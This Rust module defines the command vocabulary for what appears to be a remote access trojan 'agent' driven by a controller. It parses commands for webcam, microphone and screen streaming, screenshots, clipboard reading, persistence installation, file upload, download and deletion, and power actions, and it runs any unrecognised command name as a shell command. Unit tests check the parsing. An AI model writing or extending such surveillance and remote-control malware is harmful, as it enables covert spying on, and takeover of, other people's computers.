//! Command names understood by the agent.

use std::{fmt, time::Duration};

/// Capture quality in the range `1..=100`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct Quality(u8);

impl Quality {
    /// Quality used by streams when the controller does not ask for one.
    pub const DEFAULT: Self = Self(80);
    /// Quality used for single screenshots.
    pub const MAX: Self = Self(100);

    /// Create a quality value, rejecting anything outside `1..=100`.
    #[must_use]
    pub const fn new(value: u8) -> Option<Self> {
        if value >= 1 && value <= 100 {
            Some(Self(value))
        } else {
            None
        }
    }

    /// Parse a command parameter, falling back to [`Quality::DEFAULT`].
    ///
    /// Integers outside `1..=100` fall back too, not only text that is not
    /// a number; captures never see an out-of-range quality.
    #[must_use]
    pub fn parse_or_default(parameter: &str) -> Self {
        parameter
            .trim()
            .parse::<u8>()
            .ok()
            .and_then(Self::new)
            .unwrap_or(Self::DEFAULT)
    }

    /// Raw value.
    #[must_use]
    pub const fn get(self) -> u8 {
        self.0
    }
}

impl Default for Quality {
    fn default() -> Self {
        Self::DEFAULT
    }
}

/// Continuous capabilities that can run as a stream.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum StreamKind {
    Webcam,
    Microphone,
    Screen,
}

impl StreamKind {
    pub const ALL: [Self; 3] = [Self::Webcam, Self::Microphone, Self::Screen];

    /// Registry key and `stop-stream` parameter for this stream.
    #[must_use]
    pub const fn name(self) -> &'static str {
        match self {
            Self::Webcam => "webcam",
            Self::Microphone => "microphone",
            Self::Screen => "screenstream",
        }
    }

    /// Look up a stream by its name. `screen` is accepted for the screen
    /// stream as well.
    #[must_use]
    pub fn from_name(name: &str) -> Option<Self> {
        match name {
            "screen" => Some(Self::Screen),
            _ => Self::ALL.into_iter().find(|kind| kind.name() == name),
        }
    }

    /// Emission interval. Audio is captured in one-second batches.
    #[must_use]
    pub const fn interval(self) -> Duration {
        match self {
            Self::Webcam | Self::Screen => Duration::from_millis(100),
            Self::Microphone => Duration::from_secs(1),
        }
    }
}

impl fmt::Display for StreamKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// OS power actions.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PowerAction {
    Restart,
    Shutdown,
    Lock,
    SignOut,
}

/// A decoded controller command.
///
/// Unknown names are not an error: they become [`Command::Shell`] and run
/// through the terminal capability.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Command {
    DeviceInfo,
    CaptureScreenshot,
    Power(PowerAction),
    InstallPersistence,
    ReadClipboard,
    StartStream(StreamKind),
    StopStream,
    ExploreDirectory,
    Download,
    Upload,
    DeleteFile,
    OpenUrl,
    /// Fallback: the command name itself is the shell command line.
    Shell(String),
}

impl Command {
    /// Map a command name to a command.
    #[must_use]
    pub fn parse(name: &str) -> Self {
        match name {
            "device-info" => Self::DeviceInfo,
            "capture-screenshot" => Self::CaptureScreenshot,
            "power-restart" => Self::Power(PowerAction::Restart),
            "power-shutdown" => Self::Power(PowerAction::Shutdown),
            "power-lock" => Self::Power(PowerAction::Lock),
            "power-signout" => Self::Power(PowerAction::SignOut),
            "install-persistence" => Self::InstallPersistence,
            "read-clipboard" => Self::ReadClipboard,
            "start-webcam-stream" => Self::StartStream(StreamKind::Webcam),
            "start-microphone-stream" => Self::StartStream(StreamKind::Microphone),
            "start-screen-stream" => Self::StartStream(StreamKind::Screen),
            "stop-stream" => Self::StopStream,
            "explore-directory" => Self::ExploreDirectory,
            "download" => Self::Download,
            "upload" => Self::Upload,
            "delete-file" => Self::DeleteFile,
            "open-url" => Self::OpenUrl,
            other => Self::Shell(other.to_string()),
        }
    }

    /// Short label for logging.
    #[must_use]
    pub const fn label(&self) -> &'static str {
        match self {
            Self::DeviceInfo => "device-info",
            Self::CaptureScreenshot => "capture-screenshot",
            Self::Power(_) => "power",
            Self::InstallPersistence => "install-persistence",
            Self::ReadClipboard => "read-clipboard",
            Self::StartStream(_) => "start-stream",
            Self::StopStream => "stop-stream",
            Self::ExploreDirectory => "explore-directory",
            Self::Download => "download",
            Self::Upload => "upload",
            Self::DeleteFile => "delete-file",
            Self::OpenUrl => "open-url",
            Self::Shell(_) => "shell",
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_quality_parsing() {
        assert_eq!(Quality::parse_or_default("50").get(), 50);
        assert_eq!(Quality::parse_or_default(" 100 ").get(), 100);
        assert_eq!(Quality::parse_or_default(""), Quality::DEFAULT);
        assert_eq!(Quality::parse_or_default("abc"), Quality::DEFAULT);
        assert_eq!(Quality::parse_or_default("0"), Quality::DEFAULT);
        assert_eq!(Quality::parse_or_default("101"), Quality::DEFAULT);
        assert_eq!(Quality::parse_or_default("-5"), Quality::DEFAULT);
        assert_eq!(Quality::parse_or_default("150"), Quality::DEFAULT);
    }

    #[test]
    fn test_known_commands() {
        assert_eq!(Command::parse("device-info"), Command::DeviceInfo);
        assert_eq!(Command::parse("power-lock"), Command::Power(PowerAction::Lock));
        assert_eq!(
            Command::parse("start-microphone-stream"),
            Command::StartStream(StreamKind::Microphone)
        );
        assert_eq!(Command::parse("stop-stream"), Command::StopStream);
    }

    #[test]
    fn test_unknown_command_falls_back_to_shell() {
        assert_eq!(Command::parse("ls -la"), Command::Shell("ls -la".into()));
        assert_eq!(Command::parse("Device-Info"), Command::Shell("Device-Info".into()));
    }

    #[test]
    fn test_stream_names() {
        for kind in StreamKind::ALL {
            assert_eq!(StreamKind::from_name(kind.name()), Some(kind));
        }
        assert_eq!(StreamKind::Screen.name(), "screenstream");
        assert_eq!(StreamKind::from_name("screen"), Some(StreamKind::Screen));
        assert_eq!(StreamKind::from_name("screen-stream"), None);
        assert_eq!(StreamKind::Microphone.interval(), Duration::from_secs(1));
        assert_eq!(StreamKind::Webcam.interval(), Duration::from_millis(100));
    }
}
